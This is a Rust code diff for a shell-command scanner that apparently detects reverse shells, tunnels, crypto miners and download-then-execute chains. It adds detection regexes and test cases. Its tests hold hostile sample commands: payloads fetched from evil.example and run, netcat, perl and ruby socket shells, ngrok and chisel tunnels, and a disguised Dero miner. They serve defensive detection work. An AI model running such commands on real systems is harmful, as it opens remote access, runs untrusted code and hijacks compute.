@@ -186,6 +186,18 @@ static PATTERNS: &[Pattern] = &[
         "perl socket shell",
         r"(?s)\bperl\b.*\b(?:socket\s*\(|IO::Socket::INET).*\b(?:exec|system)\b",
     ),
+    pat(
+        REVERSE_SHELL,
+        Critical,
+        "remote shell tool",
+        r"(?i)\b(?:tmate|gs-netcat|pwncat(?:-cs)?)\b|\bgsocket\b|\bGS_ARGS=",
+    ),
+    pat(
+        REVERSE_SHELL,
+        High,
+        "exposes the pod through a tunnel service",
+        r"(?i)\bngrok\s+(?:tcp|http|tls|start)\b|\bcloudflared\b[^\n;|]*?\btunnel\b|\bchisel\s+(?:client|server)\b|\bfrpc\b|\bbore\s+local\b",
+    ),
     // miners
     pat(
         MINER,
@@ -203,7 +215,7 @@ static PATTERNS: &[Pattern] = &[
         MINER,
         High,
         "miner option",
-        r"(?i)--donate-level\b|--cpu-max-threads-hint\b|--randomx-(?:mode|1gb-pages|no-numa)\b|--coin[=\s]+(?:monero|xmr|zephyr|rvn|etc|eth)\b|\s-a\s+(?:rx/0|rx/wow|cn/r|cn-heavy/\w+|randomx|cryptonight|kawpow|ethash|argon2/chukwa)\b",
+        r"(?i)--donate-level\b|--cpu-max-threads-hint\b|--wallet-address\b|--daemon-rpc-address\b|\bdero1[0-9a-z]{50,}\b|--randomx-(?:mode|1gb-pages|no-numa)\b|--coin[=\s]+(?:monero|xmr|zephyr|rvn|etc|eth)\b|\s-a\s+(?:rx/0|rx/wow|cn/r|cn-heavy/\w+|randomx|cryptonight|kawpow|ethash|argon2/chukwa)\b",
     ),
     pat(
         MINER,
@@ -368,11 +380,6 @@ static PYTHON_SPAWN: LazyLock<Regex> = LazyLock::new(|| {
     )
 });
 static CHROOT: LazyLock<Regex> = LazyLock::new(|| re(r#"\bchroot\s+['"]?(/[^\s'";|&]*)"#));
-static DOWNLOAD_TO_FILE: LazyLock<Regex> = LazyLock::new(|| {
-    re(
-        r#"(?i)\b(?:curl|wget)\b[^\n;|&]*?(?:\s(?:-o|-O|--output|--output-document)(?:[\s=]+|\b)['"]?([^\s'";|&]+)|\s>\s*['"]?([^\s'";|&]+))"#,
-    )
-});
 static URL: LazyLock<Regex> =
     LazyLock::new(|| re(r#"(?i)\b(?:https?|ftp)://([^\s/:'"?#@]+)(?::\d+)?(/[^\s'"`;|&()<>]*)?"#));
 static CHMOD_EXEC: LazyLock<Regex> =
@@ -388,7 +395,6 @@ static BASE64_LITERAL: LazyLock<Regex> =
 const DOWNLOADERS: &[&str] = &[
     "curl",
     "wget",
-    "fetch",
     "aria2c",
     "lwp-request",
     "lwp-download",
@@ -756,64 +762,166 @@ fn all_urls_trusted(text: &str, trusted: &[String]) -> bool {
     any
 }
 
-/// `curl -o x URL; chmod +x x; ./x` and friends: a downloaded file that is then executed.
-fn scan_download_to_file<F>(text: &str, ctx: &ScanContext<'_>, hit: &F, result: &mut ScanResult)
-where
-    F: Fn(&'static str, Severity, &'static str, &str) -> CommandHit,
-{
-    // Find where a downloader first appears; anything executed after it is suspect.
-    let Some(first_download) = DOWNLOADERS.iter().filter_map(|d| find_word(text, d)).min() else {
-        return;
-    };
-    let after_download = text.get(first_download..).unwrap_or("");
-    let mut files: Vec<String> = Vec::new();
-    for caps in DOWNLOAD_TO_FILE.captures_iter(after_download) {
-        if let Some(f) = caps.get(1).or_else(|| caps.get(2)) {
-            let f = f.as_str();
-            if f != "-" && f != "/dev/null" && !f.starts_with("http") {
-                files.push(f.to_string());
+/// Split a script into simple commands (`;`, `&&`, `||`, `|`, newlines).
+fn simple_commands(text: &str) -> impl Iterator<Item = &str> {
+    text.split(['\n', ';', '|', '&'])
+        .filter(|c| !c.trim().is_empty())
+}
+
+/// The files a `curl`/`wget` command writes, when it writes any: explicit outputs (`-o FILE`,
+/// `-O FILE` for wget, `> FILE`) and implicit ones (wget's default, curl `-O`: the URL's last
+/// path segment). Returns `None` when the command is not a downloader.
+fn downloaded_files(command: &str) -> Option<Vec<String>> {
+    let words = command_words(command);
+    let tool = base_name(words.first()?);
+    if tool != "curl" && tool != "wget" {
+        return None;
+    }
+    let mut files = Vec::new();
+    let mut urls = Vec::new();
+    let mut to_stdout = false;
+    let mut remote_name = false;
+    let mut iter = words.iter().skip(1).peekable();
+    while let Some(w) = iter.next() {
+        let next_is_file = |flag: &str| -> bool {
+            match tool {
+                "curl" => {
+                    flag == "--output"
+                        || (!flag.starts_with("--") && flag.starts_with('-') && flag.ends_with('o'))
+                }
+                _ => {
+                    flag == "--output-document"
+                        || (!flag.starts_with("--") && flag.starts_with('-') && flag.ends_with('O'))
+                }
             }
+        };
+        if let Some(value) = w
+            .strip_prefix("--output=")
+            .or_else(|| w.strip_prefix("--output-document="))
+        {
+            if value == "-" {
+                to_stdout = true;
+            } else {
+                files.push(value.to_string());
+            }
+        } else if next_is_file(w) || *w == ">" || *w == ">>" {
+            match iter.next() {
+                Some(&"-") => to_stdout = true,
+                Some(f) => files.push((*f).to_string()),
+                None => {}
+            }
+        } else if let Some(f) = w
+            .strip_prefix(">>")
+            .or_else(|| w.strip_prefix('>'))
+            .filter(|f| !f.is_empty() && !f.starts_with('&'))
+        {
+            files.push(f.to_string());
+        } else if tool == "curl"
+            && (*w == "--remote-name"
+                || (!w.starts_with("--") && w.starts_with('-') && w.contains('O')))
+        {
+            remote_name = true;
+        } else if w.contains("://") {
+            urls.push(*w);
+        } else if tool == "wget" && *w == "--spider" {
+            to_stdout = true;
         }
     }
-    for caps in URL.captures_iter(after_download) {
-        if let Some(path) = caps.get(2) {
-            let name = base_name(path.as_str());
-            if name.len() > 1 {
+    let implicit = (tool == "wget" && !to_stdout && files.is_empty()) || remote_name;
+    if implicit {
+        for url in urls {
+            let path = url.split(['?', '#']).next().unwrap_or(url);
+            let name = base_name(path.trim_end_matches('/'));
+            if name.len() > 1 && !name.contains(':') {
                 files.push(name.to_string());
             }
         }
     }
-    let chmod = CHMOD_EXEC.find(after_download);
+    files.retain(|f| f != "/dev/null" && f != "-");
+    Some(files)
+}
+
+/// Is the file saved into a directory searched by PATH?
+fn in_path_dir(file: &str) -> bool {
+    let dir = file.rsplit_once('/').map_or("", |(d, _)| d);
+    matches!(
+        dir,
+        "/usr/local/bin" | "/usr/local/sbin" | "/usr/bin" | "/usr/sbin" | "/bin" | "/sbin"
+    )
+}
+
+/// `curl -o x URL; chmod +x x; ./x` and friends: a downloaded file that is then made executable
+/// or run.
+fn scan_download_to_file<F>(text: &str, ctx: &ScanContext<'_>, hit: &F, result: &mut ScanResult)
+where
+    F: Fn(&'static str, Severity, &'static str, &str) -> CommandHit,
+{
+    let mut files: Vec<String> = Vec::new();
+    let mut first_download: Option<usize> = None;
+    for command in simple_commands(text) {
+        let Some(written) = downloaded_files(command) else {
+            continue;
+        };
+        if !written.is_empty() && first_download.is_none() {
+            // Offset of this command within the text (it is a subslice of it).
+            first_download =
+                Some((command.as_ptr() as usize).saturating_sub(text.as_ptr() as usize));
+        }
+        files.extend(written);
+    }
+    let Some(start) = first_download else {
+        return;
+    };
+    let after_download = text.get(start..).unwrap_or("");
+    // `./x`, `/tmp/x`, `sh x`, `chmod +x x` name the downloaded file; a bare `x` runs whatever is
+    // first on PATH, which is the download only when it was saved into a PATH directory.
+    let names_download = |word: &str, bare_command: bool| {
+        files.iter().any(|f| {
+            word == f.as_str()
+                || (base_name(word) == base_name(f)
+                    && (word.contains('/')
+                        || (!bare_command && !f.contains('/'))
+                        || (bare_command && in_path_dir(f))))
+        })
+    };
     let mut executed = false;
-    if !files.is_empty() {
-        'commands: for command in after_download
-            .split(['\n', ';', '|'])
-            .flat_map(|c| c.split("&&"))
-        {
-            let words = command_words(command);
-            let Some(first) = words.first() else { continue };
-            let target = if is_shell(base_name(first))
-                || is_script_interpreter(base_name(first))
-                || matches!(*first, "." | "source")
-            {
-                match words.get(1) {
-                    Some(w) if !w.starts_with('-') => *w,
-                    _ => continue,
-                }
+    for command in simple_commands(after_download) {
+        let words = command_words(command);
+        let Some(first) = words.first() else { continue };
+        let name = base_name(first);
+        let bare_command = !(name == "chmod"
+            || is_shell(name)
+            || is_script_interpreter(name)
+            || matches!(*first, "." | "source"));
+        let targets: Vec<&str> = if name == "chmod" {
+            // chmod +x FILE / chmod 755 FILE
+            let mode_is_exec = words
+                .get(1)
+                .is_some_and(|m| CHMOD_EXEC.is_match(&format!("chmod {m}")));
+            if mode_is_exec {
+                words.iter().skip(2).copied().collect()
             } else {
-                first
-            };
-            for f in &files {
-                let fname = base_name(f);
-                if target == f.as_str() || (base_name(target) == fname && target.contains('/')) {
-                    executed = true;
-                    break 'commands;
-                }
+                Vec::new()
             }
+        } else if is_shell(name) || is_script_interpreter(name) || matches!(*first, "." | "source")
+        {
+            words
+                .get(1)
+                .filter(|w| !w.starts_with('-'))
+                .copied()
+                .into_iter()
+                .collect()
+        } else if downloaded_files(command).is_some() {
+            Vec::new()
+        } else {
+            vec![*first]
+        };
+        if targets.iter().any(|t| names_download(t, bare_command)) {
+            executed = true;
+            break;
         }
     }
-    let downloads_something = !files.is_empty() || DOWNLOAD_TO_FILE.is_match(after_download);
-    if downloads_something && (executed || chmod.is_some()) {
+    if executed {
         let severity = if all_urls_trusted(after_download, ctx.trusted_download_hosts) {
             Low
         } else {
@@ -829,28 +937,6 @@ where
             ),
         );
     }
-}
-
-/// Byte offset of `word` as a whole word.
-fn find_word(text: &str, word: &str) -> Option<usize> {
-    let bytes = text.as_bytes();
-    let mut from = 0;
-    while let Some(pos) = text.get(from..).and_then(|t| t.find(word)) {
-        let start = from + pos;
-        let end = start + word.len();
-        let before_ok = start == 0
-            || !bytes
-                .get(start - 1)
-                .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'-');
-        let after_ok = !bytes
-            .get(end)
-            .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'-');
-        if before_ok && after_ok {
-            return Some(start);
-        }
-        from = end;
-    }
-    None
 }
 
 /// Decode long base64 literals and scan what they hide.
@@ -983,7 +1069,6 @@ mod tests {
             &*PYTHON_CONNECT,
             &*PYTHON_SPAWN,
             &*CHROOT,
-            &*DOWNLOAD_TO_FILE,
             &*URL,
             &*CHMOD_EXEC,
             &*BASE64_LITERAL,
@@ -1003,6 +1088,8 @@ mod tests {
             "curl -o /tmp/k http://evil.example/k; chmod +x /tmp/k; /tmp/k",
             "wget http://evil.example/payload.bin -O /tmp/.x && chmod 755 /tmp/.x && /tmp/.x -d",
             "wget http://evil.example/run.sh && sh run.sh",
+            "curl -sLO http://evil.example/agent && chmod +x agent && ./agent",
+            "curl -Lso /usr/local/bin/x http://evil.example/x; chmod a+x /usr/local/bin/x; x --daemon",
             "curl -so /tmp/env.sh http://evil.example/env.sh; . /tmp/env.sh",
             "python3 <(curl -s http://evil.example/p.py)",
             "perl -e \"$(wget -qO- http://evil.example/p.pl)\"",
@@ -1026,6 +1113,10 @@ mod tests {
             "wget -q https://example.com/data.csv -O /data/in.csv; python /app/load.py /data/in.csv",
             "pg_dump -h db -U app app | gzip > /backup/app.sql.gz",
             "sh -c echo done",
+            "git fetch https://github.com/org/repo.git main && chmod +x scripts/run.sh && ./scripts/run.sh",
+            "curl -s https://api.example.com/health && chmod +x /app/run.sh && /app/run.sh",
+            "curl -sSo /tmp/data.json https://api.example.com/data && chmod 644 /tmp/data.json && jq . /tmp/data.json",
+            "wget --spider https://example.com/x.sh && sh /app/local.sh",
         ] {
             assert!(
                 max_severity(t).is_none_or(|s| s <= Low),
@@ -1109,6 +1200,10 @@ mod tests {
             "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",1234).to_i'",
             "nc 10.0.0.1 4444 | /bin/sh | nc 10.0.0.1 4445",
             "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'",
+            "tmate -S /tmp/t.sock new-session -d && tmate -S /tmp/t.sock display -p '#{tmate_ssh}'",
+            "ngrok tcp 22 --authtoken $T",
+            "cloudflared tunnel --url tcp://localhost:22",
+            "./chisel client 203.0.113.9:8000 R:socks",
         ] {
             assert!(fires(t, REVERSE_SHELL), "{t}: {:?}", checks(t));
         }
@@ -1137,6 +1232,7 @@ mod tests {
             "run --donate-level 1 -o 1.2.3.4:80",
             "./kthreaddk -o 45.9.148.1:4444 -u 49dzg7hU3zmXbyzDAJmaXzLcmjvQjEhbWgZWmVFvdjN3RhGvBo1NPrGXvPECaMvcMK2xSPDGMyW3BRuAV8X8j8Ng1DrcLyE -p x",
             "miner -o my-pool.example.net:14444",
+            "/usr/bin/pause --wallet-address dero1qyz8m7rh6p2l0ms2u3e4ycrf8n9s6g0x7pdp4r6xq5wjhh9c6hq0gq9lm0j0a --daemon-rpc-address 203.0.113.4:10100",
         ] {
             assert!(fires(t, MINER), "{t}: {:?}", checks(t));
         }
